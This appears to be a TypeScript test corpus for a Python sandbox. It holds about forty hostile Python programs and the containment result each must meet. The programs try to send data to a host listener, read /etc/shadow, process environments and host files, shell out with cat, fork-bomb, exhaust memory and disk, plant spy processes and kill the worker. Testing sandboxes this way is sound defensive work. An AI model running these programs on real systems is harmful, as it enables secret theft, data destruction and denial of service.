/**
 * Hostile programs the Python sandbox must contain, each with a named outcome: network, secrets,
 * host files, resources, the worker itself, and answers too big, too deep or too loud for the
 * interpreter or the output caps. Each names what it attacks, its source (with
 * `{{PORT}}` = a listener on the host's 127.0.0.1, `{{CANARY}}` = a host file, `{{REPO}}` = the
 * project folder, filled in by the runner) and what containment looks like: the status the run
 * must end with and the words its reason (or output) must contain. Facts the host checks itself —
 * the listener saw no connection, the canary is intact, no secret appears anywhere — hold for the
 * whole corpus. `afterwards` programs run next on the same worker and check that nothing of the
 * previous program survived.
 */
import type { ProgramStatus } from '../run-program.ts';

export interface AdversarialProgram {
  id: string;
  attack: string;
  source: string;
  expect: {
    status: ProgramStatus;
    /** Must match the outcome's reason (for failures) or its stdout (for programs that report). */
    reason?: RegExp;
    stdout?: RegExp;
  };
  /** Wall-clock deadline for this program (default 3 s). */
  deadlineMs?: number;
}

const CLEAN_SLATE = `
import os
me, parent = os.getpid(), os.getppid()
others = sorted(int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) not in (1, me, parent))
folders = sorted(os.listdir('/sandbox'))
print('others', others)
print('folders', len(folders), folders[0] == os.path.basename(os.getcwd()))
# What the sandbox mounts in /tmp (an interpreter that lives there, read-only) is not left over.
own = lambda top: sorted(e for e in os.listdir(top) if os.lstat(os.path.join(top, e)).st_dev == os.lstat(top).st_dev)
print('tmp', own('/tmp'), 'shm', own('/dev/shm'))
print('cwd-empty', sorted(os.listdir('.')) == ['stderr.txt', 'stdout.txt'])
`;

/** What the clean-slate check prints when nothing of an earlier program survived. */
export const CLEAN_SLATE_OUTPUT = /others \[\]\nfolders 1 True\ntmp \[\] shm \[\]\ncwd-empty True/;

export const CLEAN_SLATE_PROGRAM: AdversarialProgram = {
  id: 'clean-slate',
  attack: 'checks that no process, job folder or temporary file of an earlier program is left',
  source: CLEAN_SLATE,
  expect: { status: 'ok', stdout: CLEAN_SLATE_OUTPUT },
};

export const ADVERSARIAL_CORPUS: AdversarialProgram[] = [
  {
    id: 'loopback-connect',
    attack: 'connects to a listener on the host 127.0.0.1',
    source: `import socket\nsocket.create_connection(('127.0.0.1', {{PORT}}), timeout=2).sendall(b'stolen')`,
    expect: { status: 'runtime', reason: /Errno (101|111)|unreachable|refused/ },
  },
  {
    id: 'external-connect',
    attack: 'connects to an outside address',
    source: `import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=2)`,
    expect: { status: 'runtime', reason: /Network is unreachable|no network/ },
  },
  {
    id: 'dns-lookup',
    attack: 'resolves a host name',
    source: `import socket\nprint(socket.getaddrinfo('pypi.org', 443))`,
    expect: { status: 'runtime', reason: /gaierror|name resolution|Errno -[23]/ },
  },
  {
    id: 'udp-exfiltrate',
    attack: 'sends a UDP datagram to the host listener',
    // The datagram leaves into the sandbox's own, empty network namespace: the host listener counts nothing.
    source: `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nprint('sent', s.sendto(b'stolen', ('127.0.0.1', {{PORT}})))`,
    expect: { status: 'ok', stdout: /sent 6/ },
  },
  {
    id: 'environment-dump',
    attack: 'prints its environment, looking for API keys and our HOME',
    source: `import os\nprint(sorted(os.environ.items()))\nprint('home', os.path.expanduser('~'))`,
    expect: { status: 'ok', stdout: /home \/sandbox\// },
  },
  {
    id: 'proc-environ',
    attack: "reads the worker's and init's environment through /proc",
    source: `import os\nfor pid in (os.getppid(), 1):\n    try:\n        print(open('/proc/%d/environ' % pid, 'rb').read())\n    except OSError as e:\n        print('blocked', pid, e.errno)`,
    expect: { status: 'ok', stdout: /^blocked \d+ 13\n(blocked 1 13|b'')\n$/ },
  },
  {
    id: 'worker-memory',
    attack: 'attaches to the worker with ptrace and opens its memory and descriptors',
    source: `import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nprint('ptrace', libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())\nfor path in ('/proc/%d/mem' % os.getppid(), '/proc/%d/fd/1' % os.getppid()):\n    try:\n        open(path, 'rb'); print('OPENED', path)\n    except OSError as e:\n        print('blocked', e.errno)`,
    expect: { status: 'ok', stdout: /ptrace -1 1\nblocked 13\nblocked 13/ },
  },
  {
    id: 'read-host-file',
    attack: 'reads a file outside its job folder on the host',
    source: `print(open('{{CANARY}}').read())`,
    expect: { status: 'runtime', reason: /FileNotFoundError/ },
  },
  {
    id: 'read-project',
    attack: "reads the harness's own files",
    source: `print(open('{{REPO}}/package.json').read())`,
    expect: { status: 'runtime', reason: /FileNotFoundError/ },
  },
  {
    id: 'read-system-secrets',
    attack: 'reads /etc/passwd, /etc/shadow and /root',
    source: `import os\nfor p in ('/etc/passwd', '/etc/shadow'):\n    try:\n        open(p); print('READ', p)\n    except OSError as e:\n        print('missing', e.errno)\nprint(os.listdir('/root'))`,
    expect: { status: 'runtime', reason: /FileNotFoundError.*\/root/ },
  },
  {
    id: 'write-outside',
    attack: 'writes into the system, the root and the worker code',
    source: `for p in ('/usr/lib/evil', '/evil', '/etc/evil', '/witness/evil', '/proc/evil'):\n    try:\n        open(p, 'w').write('x'); print('WROTE', p)\n    except OSError as e:\n        print('refused', e.errno)\nopen('/usr/evil', 'w')`,
    expect: { status: 'runtime', reason: /Read-only file system/ },
  },
  {
    id: 'write-host-canary',
    attack: 'overwrites a host file',
    source: `open('{{CANARY}}', 'w').write('owned')`,
    expect: { status: 'runtime', reason: /FileNotFoundError|No such file/ },
  },
  {
    id: 'delete-system-files',
    attack: "deletes the interpreter's standard library",
    source: `import shutil\nshutil.rmtree('/usr/lib/python3')`,
    expect: { status: 'runtime', reason: /Read-only file system|Permission denied/ },
  },
  {
    id: 'delete-worker-code',
    attack: "deletes the sandbox worker's own code",
    source: `import os\nos.remove('/witness/worker.py')`,
    expect: { status: 'runtime', reason: /Read-only file system/ },
  },
  {
    id: 'leave-traces',
    attack: 'leaves files in its folder, /tmp and /dev/shm for the next program to find',
    source: `for p in ('secret.txt', '/tmp/secret.txt', '/dev/shm/secret.txt'):\n    open(p, 'w').write('for the next candidate')\nprint('left')`,
    expect: { status: 'ok', stdout: /left/ },
  },
  {
    id: 'linger',
    attack: 'daemonises a process that outlives the program and spies on the next one',
    source: `import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True:\n            try:\n                open('/tmp/spy', 'a').write(str(os.listdir('/sandbox')))\n            except OSError:\n                pass\n            time.sleep(0.01)\n    os._exit(0)\ntime.sleep(0.1)\nprint('spawned')`,
    expect: { status: 'ok', stdout: /spawned/ },
  },
  {
    id: 'fork-bomb',
    attack: 'forks without end',
    source: `import os\nwhile True:\n    os.fork()`,
    expect: { status: 'runtime', reason: /process limit of \d+ was reached/ },
  },
  {
    id: 'memory-bomb',
    attack: 'allocates 64 GiB at once',
    source: `x = bytearray(64 * 1024 ** 3)`,
    expect: { status: 'runtime', reason: /MemoryError.*address-space limit/ },
  },
  {
    id: 'memory-creep',
    attack: 'grows its address space 256 MiB at a time',
    source: `import numpy\nchunks = []\nwhile True:\n    chunks.append(numpy.empty(256 * 1024 ** 2, dtype=numpy.uint8))`,
    expect: { status: 'runtime', reason: /MemoryError.*address-space limit/ },
  },
  {
    id: 'infinite-loop',
    attack: 'spins forever',
    source: `while True:\n    pass`,
    expect: { status: 'timeout', reason: /wall-clock deadline|CPU time limit/ },
    deadlineMs: 1500,
  },
  {
    id: 'sleep-past-deadline',
    attack: 'sleeps far past its deadline',
    source: `import time\ntime.sleep(600)`,
    expect: { status: 'timeout', reason: /wall-clock deadline of 1\.5 s/ },
    deadlineMs: 1500,
  },
  {
    id: 'gigabytes-of-output',
    attack: 'writes gigabytes to stdout',
    source: `import sys\nblock = 'y' * (1 << 20)\nfor _ in range(4096):\n    sys.stdout.write(block)`,
    expect: { status: 'too-large', reason: /printed more than 16 MiB to stdout/ },
  },
  {
    id: 'fill-scratch',
    attack: 'fills the disk with files',
    source: `i = 0\nwhile True:\n    with open('blob%d' % i, 'wb') as f:\n        f.write(b'x' * (8 << 20))\n    i += 1`,
    expect: { status: 'runtime', reason: /scratch space is full/ },
  },
  {
    id: 'raise-limits',
    attack: 'raises its own resource limits back',
    source: `import resource\nresource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))`,
    expect: { status: 'runtime', reason: /ValueError: not allowed to raise maximum limit/ },
  },
  {
    id: 'new-user-namespace',
    attack: 'creates a user namespace to gain capabilities',
    source: `import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint('unshare', libc.unshare(0x10000000), ctypes.get_errno())`,
    expect: { status: 'ok', stdout: /unshare -1 (28|1)\b/ },
  },
  {
    id: 'forge-results',
    attack: 'writes fake protocol replies to every file descriptor',
    source: `import os\nfake = b'{"event": "done"}\\n{"id": 1, "phases": [], "lengths": []}\\nP0\\n'\nfor fd in range(1024):\n    try:\n        os.write(fd, fake)\n    except OSError:\n        pass\nraise RuntimeError('still failing')`,
    expect: { status: 'runtime', reason: /RuntimeError: still failing/ },
  },
  {
    id: 'shell-out',
    attack: 'runs a shell to copy host files',
    source: `import subprocess\nr = subprocess.run(['sh', '-c', 'cat /etc/passwd {{CANARY}}; ls /root; echo done'], capture_output=True, text=True)\nprint(r.returncode, r.stdout.strip(), '|', r.stderr.strip()[:200])`,
    expect: { status: 'ok', stdout: /No such file or directory/ },
  },
  {
    id: 'read-stdin',
    attack: 'waits for input that never comes',
    source: `print(input())`,
    expect: { status: 'runtime', reason: /EOFError/ },
  },
  {
    id: 'recursion-bomb',
    attack: 'recurses in C until the stack overflows',
    source: `import sys\nsys.setrecursionlimit(10 ** 8)\nnested = []\nfor _ in range(10 ** 6):\n    nested = [nested]\nrepr(nested)`,
    expect: { status: 'runtime', reason: /SIGSEGV|RecursionError|MemoryError/ },
  },
  {
    id: 'huge-source',
    attack: 'sends a program of 100,000 nested parentheses',
    source: `x = ${'('.repeat(100_000)}1${')'.repeat(100_000)}\n`,
    expect: { status: 'too-complex', reason: /too many nested parentheses/ },
  },
  {
    id: 'deep-source',
    attack: 'sends 2.5 MB of one expression, too deep for the compiler',
    source: `x = ${'-'.repeat(2_500_000)}1\n`,
    expect: { status: 'too-complex', reason: /MemoryError|RecursionError/ },
  },
  {
    id: 'stderr-flood',
    attack: 'writes to stderr without end',
    source: `import sys\nblock = 'e' * (1 << 20)\nwhile True:\n    sys.stderr.write(block)`,
    expect: { status: 'too-large', reason: /printed more than 16 MiB to stderr/ },
  },
  {
    id: 'flood-past-the-cap',
    attack: 'keeps printing after the file-size limit refuses its writes',
    source: `while True:\n    try:\n        print('x' * 100000)\n    except OSError:\n        pass`,
    expect: { status: 'too-large', reason: /printed more than 16 MiB to stdout/ },
    deadlineMs: 20_000,
  },
  {
    id: 'huge-exception',
    attack: 'raises an exception whose message is 512 MiB',
    source: `raise ValueError('m' * (512 * 1024 * 1024))`,
    expect: { status: 'runtime', reason: /^ValueError: m{100}.{0,2100}$/s },
  },
  {
    id: 'loopback-every-way',
    attack: 'reaches the host listener through every loopback name, now that loopback is up',
    source: `import socket\nfor host in ('127.0.0.1', '127.0.1.1', 'localhost', socket.gethostname(), '::1'):\n    try:\n        socket.create_connection((host, {{PORT}}), timeout=2).sendall(b'stolen')\n        print('REACHED', host)\n    except OSError as e:\n        print('refused', e.errno)`,
    expect: { status: 'ok', stdout: /^(refused 111\n){5}$/ },
  },
  {
    id: 'outside-names',
    attack: 'resolves outside names and addresses',
    source: `import socket\nfor name in ('pypi.org', 'example.com', 'metadata.google.internal'):\n    try:\n        print('RESOLVED', socket.getaddrinfo(name, 443))\n    except socket.gaierror as e:\n        print('unresolved', e.errno)\ntry:\n    print('REVERSED', socket.gethostbyaddr('8.8.8.8'))\nexcept OSError as e:\n    print('unresolved', type(e).__name__)`,
    expect: { status: 'ok', stdout: /^(unresolved -[23]\n){3}unresolved (herror|gaierror)\n$/ },
  },
  {
    id: 'python-escape-limits',
    attack: 'starts python in a subprocess to raise its limits or allocate 64 GiB there',
    source: `import subprocess\nfor code in ('import resource; resource.setrlimit(resource.RLIMIT_AS, (-1, -1))', 'x = bytearray(64 * 1024 ** 3)', 'import os\\nwhile True: os.fork()'):\n    r = subprocess.run(['python', '-c', code], capture_output=True, text=True, timeout=20)\n    print(r.returncode, r.stderr.strip().splitlines()[-1] if r.stderr.strip() else '')`,
    expect: {
      status: 'ok',
      stdout:
        /^1 ValueError: not allowed to raise maximum limit\n1 MemoryError\n1 BlockingIOError: \[Errno 11\] Resource temporarily unavailable\n$/,
    },
    deadlineMs: 20_000,
  },
  {
    id: 'python-orphan',
    attack: 'double-forks a setsid python busy loop that outlives the program',
    source: `import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execvp('python3', ['python3', '-c', 'while True: pass'])\n    os._exit(0)\nos.wait()\nprint('orphaned')`,
    expect: { status: 'ok', stdout: /orphaned/ },
  },
  {
    id: 'kill-worker',
    attack: 'kills its parent, the sandbox worker',
    source: `import os, signal\nos.kill(os.getppid(), signal.SIGKILL)`,
    expect: { status: 'runtime', reason: /worker died.*replaced/ },
  },
  {
    id: 'kill-everything',
    attack: 'kills every process it may signal',
    source: `import os, signal\nos.kill(-1, signal.SIGKILL)`,
    expect: { status: 'runtime', reason: /worker died.*replaced/ },
  },
  {
    id: 'freeze-worker',
    attack: 'stops its parent with SIGSTOP so the run hangs',
    source: `import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\nimport time\ntime.sleep(600)`,
    expect: { status: 'timeout', reason: /stopped answering.*killed and replaced/ },
    deadlineMs: 1000,
  },
];
